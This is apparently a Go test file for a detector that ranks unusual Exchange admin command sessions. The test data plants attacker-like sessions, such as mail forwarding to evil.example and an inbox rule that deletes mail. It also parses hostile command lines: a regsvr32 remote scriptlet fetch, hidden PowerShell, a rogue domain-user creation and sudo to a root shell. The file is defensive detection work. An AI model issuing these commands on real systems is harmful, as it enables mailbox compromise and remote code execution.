package session

import (
	"fmt"
	"math"
	"math/rand/v2"
	"strings"
	"testing"
	"time"
)

// normalSessions are administrators' Exchange sessions drawn from a few habits, deterministic
// for the seed: look up a mailbox, then change its quota or read its permissions.
func normalSessions(n int, seed uint64) []Session {
	r := rand.New(rand.NewPCG(seed, 1))
	users := []string{"alice", "bob", "carol", "dave", "erin"}
	quotas := []string{"5GB", "10GB", "50GB"}
	var out []Session
	for i := range n {
		u := users[r.IntN(len(users))]
		s := Session{Key: u}
		s.Cmds = append(s.Cmds, Cmd{Name: "Get-Mailbox", Params: map[string]string{"Identity": users[r.IntN(len(users))]}})
		switch r.IntN(3) {
		case 0:
			s.Cmds = append(s.Cmds, Cmd{Name: "Set-Mailbox", Params: map[string]string{"Identity": u, "ProhibitSendQuota": quotas[r.IntN(len(quotas))]}})
		case 1:
			s.Cmds = append(s.Cmds, Cmd{Name: "Get-MailboxPermission", Params: map[string]string{"Identity": u}})
		default:
			s.Cmds = append(s.Cmds, Cmd{Name: "Get-MailboxStatistics", Params: map[string]string{"Identity": u}},
				Cmd{Name: "Set-Mailbox", Params: map[string]string{"Identity": u, "ProhibitSendQuota": quotas[r.IntN(len(quotas))]}})
		}
		if r.IntN(2) == 0 {
			s.Cmds = append(s.Cmds, Cmd{Name: "Get-Mailbox", Params: map[string]string{"Identity": u}})
		}
		s.Start = time.Date(2026, 11, 1, 8, 0, 0, 0, time.UTC).Add(time.Duration(i) * time.Hour)
		out = append(out, s)
	}
	return out
}

func TestPlantedSessionRanksFirst(t *testing.T) {
	planted := map[Level]Session{
		// Commands never seen in that order: mail forwarding and an inbox rule, the BEC pattern.
		CmdsOnly: {Key: "mallory", Cmds: []Cmd{
			{Name: "Get-Mailbox", Params: map[string]string{"Identity": "alice"}},
			{Name: "Set-MailboxPermission", Params: map[string]string{"Identity": "alice", "AccessRights": "FullAccess"}},
			{Name: "New-InboxRule", Params: map[string]string{"Mailbox": "alice", "DeleteMessage": "true"}},
		}},
		// Usual commands, one unusual parameter: forwarding set on a mailbox.
		CmdsParams: {Key: "mallory", Cmds: []Cmd{
			{Name: "Get-Mailbox", Params: map[string]string{"Identity": "bob"}},
			{Name: "Set-Mailbox", Params: map[string]string{"Identity": "bob", "ForwardingSmtpAddress": "x@evil.example"}},
		}},
		// Usual commands and parameters, a quota nobody ever sets.
		CmdsParamsValues: {Key: "mallory", Cmds: []Cmd{
			{Name: "Get-Mailbox", Params: map[string]string{"Identity": "carol"}},
			{Name: "Set-Mailbox", Params: map[string]string{"Identity": "carol", "ProhibitSendQuota": "Unlimited"}},
		}},
	}
	for level, p := range planted {
		t.Run(fmt.Sprint("level", level), func(t *testing.T) {
			sessions := append(normalSessions(500, uint64(level)+7), p)
			m, err := Train(sessions, level)
			if err != nil {
				t.Fatal(err)
			}
			ranked := Rank(m, sessions, 2)
			if ranked[0].Key != "mallory" {
				t.Errorf("rank 1 is %s %v (likelihood %g); the planted session is elsewhere", ranked[0].Key, ranked[0].Cmds, ranked[0].RarestLikeness)
			}
			// The level below cannot see what the planted session does differently, so the
			// finer level is what finds it.
			if level > CmdsOnly {
				coarse, err := Train(sessions, level-1)
				if err != nil {
					t.Fatal(err)
				}
				if Rank(coarse, sessions, 2)[0].Key == "mallory" {
					t.Errorf("level %d already ranks the planted session first", level-1)
				}
			}
		})
	}
}

func TestModelProbabilities(t *testing.T) {
	sessions := []Session{{Cmds: []Cmd{{Name: "a"}, {Name: "b"}}}, {Cmds: []Cmd{{Name: "a"}, {Name: "b"}}}, {Cmds: []Cmd{{Name: "b"}}}}
	m, err := Train(sessions, CmdsOnly)
	if err != nil {
		t.Fatal(err)
	}
	// Every row of transitions is a distribution.
	for from, row := range m.logTrans {
		sum := 0.0
		for _, lp := range row {
			sum += math.Exp(lp)
		}
		if math.Abs(sum-1) > 1e-12 {
			t.Errorf("transitions from %s sum to %v", from, sum)
		}
	}
	// Known: start→a (2 of 3, smoothed over {a, b, END, UNK}: (2+1)/(3+4)).
	if got, want := math.Exp(m.logTransition(Start, "a")), 3.0/7; math.Abs(got-want) > 1e-12 {
		t.Errorf("P(a|start) = %v, want %v", got, want)
	}
	// The seen session is likelier than one with an unseen command, which is still finite.
	seen, unseen := m.LogLikelihood([]Cmd{{Name: "a"}, {Name: "b"}}), m.LogLikelihood([]Cmd{{Name: "a"}, {Name: "zzz"}})
	if !(seen > unseen) || math.IsInf(unseen, 0) {
		t.Errorf("seen %v, unseen %v", seen, unseen)
	}
	if _, _, ok := m.RarestWindow([]Cmd{{Name: "a"}}, 2); ok {
		t.Error("a window longer than the session")
	}
	if _, err := Train(nil, CmdsOnly); err != ErrNoSessions {
		t.Errorf("Train(nil): %v", err)
	}
}

func TestSessionize(t *testing.T) {
	t0 := time.Date(2026, 11, 23, 8, 0, 0, 0, time.UTC)
	ev := func(key string, min int, cmd string) Event {
		return Event{Key: key, Time: t0.Add(time.Duration(min) * time.Minute), Cmd: Cmd{Name: cmd}}
	}
	events := []Event{ev("bob", 5, "b2"), ev("alice", 0, "a1"), ev("alice", 10, "a2"), ev("bob", 0, "b1"), ev("alice", 50, "a3"), ev("alice", 55, "a4"), ev("alice", 200, "a5")}
	got := Sessionize(events, SessionizeOptions{MaxGap: 30 * time.Minute, MaxDuration: 3 * time.Minute})
	var desc []string
	for _, s := range got {
		names := ""
		for _, c := range s.Cmds {
			names += c.Name
		}
		desc = append(desc, s.Key+":"+names)
	}
	// MaxDuration 3m cuts a1|a2, a3|a4 and b1|b2; the long gaps cut a2|a3 and a4|a5.
	want := "[alice:a1 alice:a2 alice:a3 alice:a4 alice:a5 bob:b1 bob:b2]"
	if fmt.Sprint(desc) != want {
		t.Errorf("sessions %v, want %v", desc, want)
	}
	got = Sessionize(events, SessionizeOptions{})
	desc = nil
	for _, s := range got {
		desc = append(desc, fmt.Sprintf("%s:%d", s.Key, len(s.Cmds)))
	}
	if fmt.Sprint(desc) != "[alice:2 alice:2 alice:1 bob:2]" {
		t.Errorf("default gap: %v", desc)
	}
}

func BenchmarkScore(b *testing.B) {
	sessions := normalSessions(20000, 1) // about 50 k commands
	m, err := Train(sessions, CmdsParamsValues)
	if err != nil {
		b.Fatal(err)
	}
	cmds := 0
	for _, s := range sessions {
		cmds += len(s.Cmds)
	}
	b.ResetTimer()
	for range b.N {
		Rank(m, sessions, 2)
	}
	b.ReportMetric(float64(cmds*b.N)/b.Elapsed().Seconds(), "events/s")
}

func TestParseCommandLine(t *testing.T) {
	for _, tt := range []struct {
		line string
		want string
	}{
		{`"C:\Windows\System32\net.exe" user mallory P@ss /add /domain`, "net map[add: domain:]"},
		{`powershell.exe -NoP -W Hidden -File "C:\temp\a b.ps1"`, `powershell map[file:C:\temp\a b.ps1 nop: w:Hidden]`},
		{`regsvr32 /s /n /u /i:http://x/f.sct scrobj.dll`, "regsvr32 map[i:http://x/f.sct n: s: u:]"},
		{`/usr/bin/sudo -u root /bin/bash`, "sudo map[u:root]"},
		{``, " map[]"},
	} {
		c := ParseCommandLine(tt.line)
		if got := fmt.Sprint(c.Name, " ", c.Params); got != tt.want {
			t.Errorf("ParseCommandLine(%q) = %s, want %s", tt.line, got, tt.want)
		}
	}
}

func FuzzParseCommandLine(f *testing.F) {
	for _, s := range []string{`net user x /add`, `"a b" -c "d`, `-`, `/`, "\x00\"", `a /i:x -y:z`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		c := ParseCommandLine(s)
		if strings.TrimSpace(s) == "" && c.Name != "" {
			t.Fatalf("name %q from blank input", c.Name)
		}
	})
}
